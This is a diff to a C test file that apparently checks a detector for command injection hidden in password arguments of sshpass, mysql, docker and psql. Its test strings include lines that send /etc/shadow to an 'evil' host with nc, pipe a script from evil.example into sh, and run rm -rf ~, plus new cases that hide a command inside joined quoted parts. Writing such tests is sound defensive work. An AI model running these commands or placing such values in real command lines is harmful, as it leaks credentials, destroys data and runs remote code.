@@ -568,6 +568,10 @@ test_json_gaps_and_commands (void)
     "sshpass -p \"x$(nc evil 1 </etc/shadow)\" ssh h",
     "mysql -p\"x`rm -rf ~`\" shop",
     "docker login -p \"x$(curl -s https://evil.example/p | sh)\" registry",
+    /* joined of parts, the command in one of them */
+    "PGPASSWORD='a'\"$(touch /tmp/PWNED)\" psql -h db.internal app",
+    "mysql -p\"x\"$(cat /tmp/pw) shop",
+    "mysql -p'x'`id` shop",
   };
 
   for (guint i = 0; i < G_N_ELEMENTS (json); i++)
